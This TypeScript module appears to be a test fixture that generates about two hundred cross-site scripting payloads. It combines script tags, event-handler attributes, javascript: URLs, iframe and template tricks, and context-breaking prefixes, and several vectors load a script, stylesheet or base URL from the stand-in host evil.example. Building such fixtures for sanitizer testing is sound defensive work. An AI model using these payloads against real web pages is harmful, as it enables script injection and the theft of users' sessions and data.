/** Two hundred texts that try to become script where they are shown. What they would run leaves `__ran` on the window; what they would make carries `data-x`. */
export const RUN = "window.__ran=1";
const VECTORS = [
  `<script data-x>${RUN}</script>`, `<ScRiPt data-x>${RUN}</sCrIpT>`, `<script data-x src=//evil.example/x.js></script>`, `<img data-x src=x onerror=${RUN}>`,
  `<svg data-x onload=${RUN}>`, `<svg data-x><script>${RUN}</script></svg>`, `<iframe data-x srcdoc="<script>parent.${RUN}</script>">`, `<iframe data-x src="javascript:parent.${RUN}">`,
  `<a data-x href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`, `<body data-x onload=${RUN}>`, `<input data-x autofocus onfocus=${RUN}>`, `<details data-x open ontoggle=${RUN}>`,
  `<video data-x><source onerror=${RUN}></video>`, `<object data-x data="javascript:${RUN}">`, `<embed data-x src="javascript:${RUN}">`, `<form data-x action="javascript:${RUN}"><button autofocus>`,
  `<math data-x><mtext><script>${RUN}</script></mtext></math>`, `<style data-x>*{background:url(//evil.example)}</style>`, `<link data-x rel=stylesheet href=//evil.example/x.css>`, `<meta data-x http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base data-x href=//evil.example/>`, `<template data-x><script>${RUN}</script></template>`, `<marquee data-x onstart=${RUN}>`, `<audio data-x src=x onerror=${RUN}>`, `<button data-x popovertarget=y onclick=${RUN}>`,
];
const WRAPPED = [(v: string) => v, (v: string) => `"'>${v}`, (v: string) => `</script></title></textarea>${v}`, (v: string) => `--></style>${v}<!--`, (v: string) => `${v}\u2028\${${RUN}}{{constructor.constructor('${RUN}')()}}`];
const UNPARSED = ["&lt;img data-x src=x onerror=1&gt;", "\\u003cimg data-x\\u003e", "%3Cimg data-x%3E"];

export const PAYLOADS = VECTORS.flatMap((v) => [...WRAPPED.map((wrap) => wrap(v)), ...UNPARSED.map((u) => u + v)]);
